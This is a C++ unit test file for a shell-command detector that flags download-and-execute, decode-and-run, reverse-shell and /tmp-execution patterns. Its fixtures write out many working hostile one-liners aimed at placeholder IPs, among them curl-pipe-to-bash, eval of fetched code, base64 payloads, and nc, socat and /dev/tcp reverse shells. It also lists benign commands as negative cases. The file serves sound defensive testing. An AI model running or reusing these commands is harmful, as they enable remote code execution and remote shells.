// SPDX-License-Identifier: Apache-2.0
#include "parse/command_trick/command_trick.h"

#include <gtest/gtest.h>

#include <string>

namespace genba::parse {
namespace {

std::string trick(std::string_view command) {
  const auto found = find_command_trick(command);
  return found ? std::string(to_string(*found)) : "-";
}

TEST(Download, PipedIntoAShell) {
  for (const auto* command : {
           "curl -fsSL http://203.0.113.5/x.sh | sh",
           "wget -qO- http://203.0.113.5/x|sh>/dev/null",
           "(curl -fsSL http://203.0.113.5/x||wget -q -O- http://203.0.113.5/x)|bash",
           "{ curl x; wget -O- y; } | sh",
           "curl x | sudo -u root nice -n 19 bash -s a",
           "curl x | tee /var/log/x | timeout 60 python3",
           "curl x |& bash -",
           "curl x | perl",
           "curl x | base64 -d | sh",
           "/usr/bin/env PATH=/bin curl x | /usr/bin/flock -n /run/l /bin/dash",
           "curl x | python3.11 -u -",
           "if true; then curl x; fi | bash",
           "flock -n /run/l -c 'curl x | sh'",
           "su - www-data -c 'curl x | sh'",
           "su -s /bin/bash -c 'curl -s http://203.0.113.5/a | bash' www-data",
           "su --command='curl x | sh' www-data",
           "/bin/sh -c \"curl x | bash -s a\"",
           "-/bin/bash -euo pipefail -c 'wget -O - x | sh'",
           "echo \"$(curl x | sh)\"",
       }) {
    EXPECT_EQ(trick(command), "download") << command;
  }
}

TEST(Download, SubstitutedIntoAShell) {
  for (const auto* command : {
           "bash <(curl -s http://203.0.113.5/x)",
           "bash -c \"$(curl -fsSL http://203.0.113.5/x)\"",
           "eval $(curl x)",
           "eval \"$(wget -qO- x)\"",
           "eval `curl x`",
           "sh -c \"`curl x`\"",
           "source <(curl x)",
           ". <(curl x)",
           "bash < <(curl x)",
           "bash <<< \"$(curl x)\"",
           "python3 <(wget -qO- x)",
           "$(curl x)",
       }) {
    EXPECT_EQ(trick(command), "download") << command;
  }
}

TEST(Download, FetchedFileIsRun) {
  for (const auto* command : {
           "curl -o /tmp/a http://203.0.113.5/a; sh /tmp/a",
           "curl -sSLo /opt/a x && chmod +x /opt/a && /opt/a",
           "wget -O/opt/a x; /opt/a",
           "wget --output-document=/opt/a x; bash /opt/a",
           "cd /opt; curl -sO http://203.0.113.5/run?x=1; ./run",
           "cd /opt; wget http://203.0.113.5/x.py && python3 x.py",
           "curl x > /opt/a; . /opt/a",
       }) {
    EXPECT_EQ(trick(command), "download") << command;
  }
}

TEST(Decode, EncodedTextIsRun) {
  EXPECT_EQ(trick("echo aWQK | base64 -d | bash"), "decode");
  EXPECT_EQ(trick("echo aWQK | base64 --decode | python3"), "decode");
  EXPECT_EQ(trick("bash -c \"$(echo aWQK | base64 -di)\""), "decode");
  EXPECT_EQ(trick("openssl enc -d -base64 -in /etc/x | sh"), "decode");
  EXPECT_EQ(trick("xxd -r -p /etc/x | bash"), "decode");
}

TEST(Network, StreamsOfAShellAreAConnection) {
  for (const auto* command : {
           "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
           "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'",
           "exec 5<>/dev/tcp/203.0.113.7/443; sh <&5 >&5 2>&5",
           "exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | while read line; do $line 2>&5 >&5; done",
           "cat </dev/tcp/203.0.113.7/443 | sh",
           "nc -e /bin/sh 203.0.113.7 443",
           "ncat 203.0.113.7 443 --exec /bin/bash",
           "nc -lvp 4444 -c bash",
           "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 443 >/tmp/f",
           "nc 203.0.113.7 443 | bash | nc 203.0.113.7 444",
           "socat TCP:203.0.113.7:443 EXEC:'bash -li',pty,stderr",
           "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0)'",
       }) {
    EXPECT_EQ(trick(command), "network") << command;
  }
}

TEST(Volatile, ScriptOrProgramLiesBelowTmp) {
  for (const auto* command : {
           "/tmp/x",
           "/bin/sh /tmp/a.sh",
           "python3 /dev/shm/x.py",
           "cd /tmp && ./x",
           "cd /var/tmp/.a; sh run",
           "cd -- /tmp; ./x",
           "(cd /srv; ls); (cd /tmp; ./x)",
           "eval 'cd /tmp'; ./x",
           "sh -c '/tmp/.x/run -d'",
           "sh < /tmp/x",
           ". /dev/shm/x",
           "nohup nice -n 5 /var/tmp/a &",
           "test -x /tmp/a && /tmp/a",
       }) {
    EXPECT_EQ(trick(command), "volatile") << command;
  }
}

TEST(Volatile, ScriptHiddenAmongTheSystemsFiles) {
  EXPECT_EQ(trick("/usr/bin/python3 /usr/lib/.x/a.py"), "volatile");
  EXPECT_EQ(trick("nohup /etc/.x/run &"), "volatile");
  EXPECT_EQ(trick("sh /root/.acme.sh/acme.sh --cron"), "-");
  EXPECT_EQ(trick(". /etc/.env; /opt/run"), "-");
}

TEST(Innocent, FetchedTextIsOnlyRead) {
  for (const auto* command : {
           "wget -qO- https://example.org/list | grep -v flush",
           "curl -s https://example.org/x | python3 -m json.tool",
           "curl -s https://example.org/x | perl -ne 'print if /x/'",
           "curl -s https://example.org/x | perl -MJSON -ne 'print'",
           "curl -s https://example.org/x | logger -t push",
           "curl -s https://example.org/x | /usr/bin/ssh host",
           "curl -s https://example.org/x | /usr/local/bin/refresh",
           "wget -qO- https://example.org/x | publish",
           "curl -s https://example.org/x | python3 /opt/import.py",
           "curl -s https://example.org/x | node /srv/parse.js",
           "curl -s https://example.org/x | php -r 'echo 1;'",
           "curl -s https://example.org/wp-cron.php >/dev/null 2>&1",
           "curl -s https://example.org/a; sh /opt/b.sh",
           "/opt/update.sh $(curl -s https://example.org/version)",
           "bash /opt/update.sh \"$(curl -s https://example.org/version)\"",
           "curl -o /srv/list https://example.org/list && /usr/local/bin/reload /srv/list",
           "wget -q https://example.org/refresh; /usr/local/bin/refresh",
           "/bin/sh -c 'curl -fsS https://hc.example.org/x >/dev/null'",
           "echo 'curl x | sh'",
           "curl -s https://example.org/a | su -s /bin/sh -c 'cat > /srv/x' www-data",
       }) {
    EXPECT_EQ(trick(command), "-") << command;
  }
}

TEST(Innocent, BackupsAndDecodedKeys) {
  EXPECT_EQ(trick("mysqldump a | gzip | base64 > /srv/b.sh"), "-");
  EXPECT_EQ(trick("base64 -d /etc/key.b64 > /run/key; sh /opt/x.sh"), "-");
  EXPECT_EQ(trick("cd /tmp && /usr/bin/find . -mtime +3 -delete"), "-");
  EXPECT_EQ(trick("cd /tmp; cd /srv/app && ./run"), "-");
  EXPECT_EQ(trick("/usr/bin/php /srv/a.php > /tmp/log"), "-");
  EXPECT_EQ(trick("tar cf - /srv | nc 192.0.2.1 9000"), "-");
  EXPECT_EQ(trick("awk '{print $(NF-1)}' /etc/x"), "-");
}

TEST(Innocent, TemporaryDirectoryWasLeftAgain) {
  for (const auto* command : {
           "cd /tmp && rm -rf cache; cd ~/app && ./run",
           "cd /tmp; cd && bin/run",
           "cd /tmp; cd $HOME/app && ./run",
           "cd /tmp; cd - && bin/run.sh",
           "(cd /tmp && tar xf a); ./run.sh",
           "(cd /tmp && tar xf a); cd -; bin/run.sh",
           "files=$(cd /tmp; ls); ./run.sh",
           "sh -c 'cd /tmp && tar xf a'; ./run.sh",
       }) {
    EXPECT_EQ(trick(command), "-") << command;
  }
}

TEST(Innocent, HealthChecksOfAPort) {
  EXPECT_EQ(trick("/bin/bash -c 'until echo > /dev/tcp/127.0.0.1/5432; do sleep 1; done'"), "-");
  EXPECT_EQ(trick("timeout 1 bash -c '</dev/tcp/192.0.2.1/80' >/dev/null 2>&1"), "-");
  EXPECT_EQ(trick("exec 3<>/dev/tcp/127.0.0.1/80; echo -e 'GET / HTTP/1.0\\n' >&3; cat <&3"), "-");
  EXPECT_EQ(trick("nc -z -w 1 127.0.0.1 80 && bash /opt/ready.sh"), "-");
}

TEST(Shapes, OddAndHostileLinesEnd) {
  EXPECT_EQ(trick(""), "-");
  EXPECT_EQ(trick(")))((("), "-");
  EXPECT_EQ(trick("sh -c"), "-");
  EXPECT_EQ(trick(std::string(100'000, '(')), "-");
  std::string deep;
  for (int i = 0; i < 20'000; ++i) {
    deep += "\"$(";
  }
  EXPECT_EQ(trick(deep), "-");
}

TEST(Shapes, ALineMadeToBeReadAThousandTimesIsATrickItself) {
  std::string line(20'000, 'a');
  for (int depth = 0; depth < 5; ++depth) {
    std::string quoted;
    for (const char c : "$( $( $( $( " + line) {
      if (std::string_view("$()\\ ").find(c) != std::string_view::npos) {
        quoted += '\\';
      }
      quoted += c;
    }
    line = quoted;
  }
  EXPECT_EQ(trick(line), "decode");
}

TEST(Shapes, ALongHonestScriptOfManySubstitutionsIsNone) {
  std::string script;
  for (int i = 0; i < 2'000; ++i) {
    script += "log \"$(date +%s) $(hostname) $(cat /etc/motd)\"; ";
  }
  EXPECT_EQ(trick(script), "-");
  EXPECT_EQ(trick("bash -c '" + script + "'"), "-");
}

}  // namespace
}  // namespace genba::parse
